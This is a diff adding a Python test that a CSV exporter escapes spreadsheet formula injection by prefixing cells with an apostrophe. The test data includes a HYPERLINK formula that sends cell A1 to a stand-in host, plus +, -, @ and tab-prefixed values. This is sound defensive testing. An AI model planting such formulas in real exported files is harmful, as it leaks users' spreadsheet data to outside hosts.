@@ -112,3 +112,25 @@ def test_numbering_keeps_sub_numbers_with_their_main_item() -> None:
     ]  # fmt: skip
     top = renumber([("a", "3b"), ("b", "1")])  # a sub-number moved to the top becomes a main item
     assert [p.number for p in top] == ["1", "2"]
+
+
+def test_csv_cells_are_never_formulas() -> None:
+    """Names and roles come from the server (typed by people): a spreadsheet must show them, not run them."""
+    hostile = {
+        **ANSWER,
+        "rows": [
+            {**ANSWER["rows"][0], "name": '=HYPERLINK("http://x.invalid/?"&A1;"Anna")', "role": "+Mitglied"},  # type: ignore[index]
+            {**ANSWER["rows"][1], "name": "-2+3", "role": "@SUM(A1:A2)"},  # type: ignore[index]
+            {**ANSWER["rows"][2], "name": "\tTab", "role": "Mitglied"},  # type: ignore[index]
+        ],
+    }
+    text = DeliveryTable.from_json(hostile).to_csv()
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
+    assert [r[:2] for r in rows[1:]] == [
+        ['\'=HYPERLINK("http://x.invalid/?"&A1;"Anna")', "'+Mitglied"],
+        ["'-2+3", "'@SUM(A1:A2)"],
+        ["'\tTab", "Mitglied"],
+    ]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    plain = DeliveryTable.from_json(ANSWER).to_csv()
+    assert "'" not in plain  # ordinary names and times unchanged
